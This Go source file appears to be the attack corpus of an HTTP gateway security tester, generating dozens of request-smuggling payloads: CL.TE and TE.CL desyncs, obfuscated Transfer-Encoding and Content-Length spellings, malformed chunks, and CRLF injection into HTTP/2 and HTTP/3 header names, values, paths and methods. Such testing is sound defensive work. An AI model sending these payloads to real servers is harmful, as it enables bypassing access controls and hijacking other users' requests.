package corpus

import (
	"fmt"
	"strings"

	"github.com/wxgate/wxgate/internal/attack/wire"
)

// encodings are spellings of Transfer-Encoding that servers read differently.
var encodings = map[string]string{
	"te-space":        "Transfer-Encoding : chunked\r\n",
	"te-tab":          "Transfer-Encoding:\tchunked\r\n",
	"te-vertical-tab": "Transfer-Encoding:\vchunked\r\n",
	"te-upper":        "TRANSFER-ENCODING: CHUNKED\r\n",
	"te-quoted":       "Transfer-Encoding: \"chunked\"\r\n",
	"te-unknown":      "Transfer-Encoding: xchunked\r\n",
	"te-list":         "Transfer-Encoding: identity, chunked\r\n",
	"te-reversed":     "Transfer-Encoding: chunked, identity\r\n",
	"te-twice":        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
	"te-twice-same":   "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
	"te-folded":       "Transfer-Encoding:\r\n chunked\r\n",
	"te-bare-lf":      "X: a\nTransfer-Encoding: chunked\n",
	"te-bare-cr":      "X: a\rTransfer-Encoding: chunked\r\n",
	"te-nul":          "Transfer-Encoding: chunked\x00\r\n",
	"te-underscore":   "Transfer_Encoding: chunked\r\n",
	"te-semicolon":    "Transfer-Encoding: chunked;x\r\n",
}

// lengths are spellings of Content-Length that servers read differently.
var lengths = map[string]string{
	"cl-twice":      "Content-Length: 0\r\nContent-Length: {length}\r\n",
	"cl-list":       "Content-Length: 0, {length}\r\n",
	"cl-plus":       "Content-Length: +{length}\r\n",
	"cl-space":      "Content-Length : {length}\r\n",
	"cl-hex":        "Content-Length: 0x{length-hex}\r\n",
	"cl-negative":   "Content-Length: -{length}\r\n",
	"cl-fold":       "Content-Length:\r\n {length}\r\n",
	"cl-underscore": "Content_Length: {length}\r\n",
	"cl-empty":      "Content-Length: \r\nX: {length}\r\n",
	"cl-octal":      "Content-Length: 0{length-octal}\r\n",
}

// smuggleAttacks: bytes that one server reads as the body of a request, and the next as
// another request with any headers.
func smuggleAttacks(t *Target) []Attack {
	inner := fmt.Sprintf("GET %s{smuggled} HTTP/1.1\r\nHost: {host}\r\n%s: {victim}\r\n\r\n", t.Guarded, t.Identity)
	var out []Attack
	add := func(id, lines, body string) {
		out = append(out, Attack{
			ID: "smuggle/" + id, Mechanism: smuggleMechanism, Protocols: h1Only, Needs: []Control{streamed, guarded}, Judge: desynchronised,
			Request: wire.Request{Raw: "POST " + t.Guarded + "smuggle HTTP/1.1\r\nHost: {host}\r\nX-Attack: {marker}\r\nAuthorization: Bearer {token}\r\n" + lines + "\r\n" + body},
		})
	}
	// Read as chunked, the body is empty and the inner request follows.
	chunked := "0\r\n\r\n" + inner
	const length = "Content-Length: {length}\r\n"
	const te = "Transfer-Encoding: chunked\r\n"
	add("cl-te", length+te, chunked)
	add("te-cl", te+"Content-Length: 4\r\n", "{hex}\r\n"+inner+"\r\n0\r\n\r\n")
	for id, header := range encodings {
		add(id+"-with-length", length+header, chunked)
		add(id+"-alone", header, chunked)
	}
	for id, header := range lengths {
		add(id, header, inner)
	}
	for id, chunk := range map[string]string{
		"chunk-bare-lf":       "0\n\n",
		"chunk-negative":      "-1\r\n\r\n",
		"chunk-overflow":      "fffffffffffffffff0\r\n\r\n",
		"chunk-hex-prefix":    "0x0\r\n\r\n",
		"chunk-extension":     "0;x=\"\r\n\r\n",
		"chunk-extension-lf":  "1;x=\nX\r\n0\r\n\r\n",
		"chunk-no-crlf":       "1\r\nX0\r\n\r\n",
		"chunk-trailing-junk": "1\r\nXjunk\r\n0\r\n\r\n",
		"chunk-trailer-te":    "0\r\nTransfer-Encoding: chunked\r\n\r\n",
		"chunk-trailer-cl":    "0\r\nContent-Length: 100\r\n\r\n",
		"chunk-trailer-fold":  "0\r\nX: a\r\n " + t.Identity + ": {victim}\r\n\r\n",
	} {
		add(id, te, chunk+inner)
	}
	return append(out, smuggledHeads(t, inner)...)
}

// smuggledHeads: the same with the header section only.
func smuggledHeads(t *Target, inner string) []Attack {
	var out []Attack
	for id, raw := range map[string]string{
		"http-1.0":       "POST " + t.Guarded + "smuggle HTTP/1.0\r\n{head}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
		"http-0.9":       "GET " + t.Guarded + "{smuggled}\r\n\r\n" + inner,
		"http-1.2":       "POST " + t.Guarded + "smuggle HTTP/1.2\r\n{head}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
		"newline-target": "GET " + t.Guarded + "{smuggled}\nX HTTP/1.1\r\n{head}\r\n" + inner,
		"space-target":   "GET " + t.Guarded + "smuggle HTTP/1.1\r\nX: a HTTP/1.1\r\n{head}\r\n" + inner,
		"leading-crlf":   "\r\n\r\nGET " + t.Guarded + "smuggle HTTP/1.1\r\n{head}\r\n" + inner,
		"two-hosts":      "GET " + t.Guarded + "smuggle HTTP/1.1\r\nHost: evil\r\n{head}\r\n" + inner,
		"pipelined":      "GET " + t.Guarded + "smuggle HTTP/1.1\r\n{head}\r\n" + inner,
		"expect":         "POST " + t.Guarded + "smuggle HTTP/1.1\r\n{head}Expect: 100-continue\r\nContent-Length: 0\r\n\r\n" + inner,
		"nul-in-header":  "GET " + t.Guarded + "smuggle HTTP/1.1\r\n{head}X: a\x00b\r\n\r\n",
		"nul-in-target":  "GET " + t.Guarded + "smuggle\x00 HTTP/1.1\r\n{head}\r\n",
		"colon-first":    "GET " + t.Guarded + "smuggle HTTP/1.1\r\n{head}: x\r\n\r\n",
		"no-colon":       "GET " + t.Guarded + "smuggle HTTP/1.1\r\n{head}" + t.Identity + "\r\n\r\n",
	} {
		raw = strings.ReplaceAll(raw, "{head}", "Host: {host}\r\nX-Attack: {marker}\r\nAuthorization: Bearer {token}\r\n")
		out = append(out, Attack{
			ID: "smuggle/" + id, Mechanism: smuggleMechanism, Protocols: h1Only, Needs: []Control{Admitted, guarded}, Request: wire.Request{Raw: raw}, Judge: desynchronised,
		})
	}
	return out
}

// smuggleFrameAttacks: frames of HTTP/2 and HTTP/3 have lengths; headers that contradict
// them must not be forwarded over HTTP/1.1.
func smuggleFrameAttacks(t *Target) []Attack {
	inner := fmt.Sprintf("GET %s{smuggled} HTTP/1.1\r\nHost: {host}\r\n%s: {victim}\r\n\r\n", t.Guarded, t.Identity)
	var out []Attack
	add := func(id string, body string, header ...wire.Field) {
		out = append(out, Attack{
			ID: "smuggle/frame-" + id, Mechanism: smuggleMechanism, Protocols: multiplexed, Needs: []Control{streamed, guarded}, Judge: desynchronised,
			Request: wire.Request{
				Method: "POST", Path: t.Guarded + "smuggle", Body: body, Chunked: true, Verbatim: true,
				Header: append([]wire.Field{field("authorization", "Bearer {token}")}, header...),
			},
		})
	}
	add("te", "0\r\n\r\n"+inner, field("transfer-encoding", "chunked"))
	add("cl-short", inner, field("content-length", "0"))
	add("cl-twice", inner, field("content-length", "0"), field("content-length", "5"))
	add("newline-in-value", "", field("x", "a\r\n\r\n"+inner))
	add("lf-in-value", "", field("x", "a\n\n"+strings.ReplaceAll(inner, "\r", "")))
	add("newline-in-name", "", field("x: a\r\n\r\n"+inner+"y", "z"))
	add("te-in-value", "0\r\n\r\n"+inner, field("x", "a\r\nTransfer-Encoding: chunked"))
	head := func(id string, request wire.Request) {
		out = append(out, Attack{
			ID: "smuggle/frame-" + id, Mechanism: smuggleMechanism, Protocols: multiplexed, Needs: []Control{Admitted, guarded}, Judge: desynchronised, Request: request,
		})
	}
	head("newline-in-path", get(t.Guarded+"x HTTP/1.1\r\nHost: {host}\r\n\r\n"+inner))
	head("space-in-path", get(t.Guarded+"x HTTP/1.1 "+t.Guarded+"{smuggled}"))
	head("relative-path", anonymous(strings.TrimPrefix(t.Guarded, "/")+"{smuggled}"))
	method := get(t.Guarded + "x")
	method.Method = "GET " + t.Guarded + "{smuggled} HTTP/1.1\r\nX: "
	head("newline-in-method", method)
	return out
}
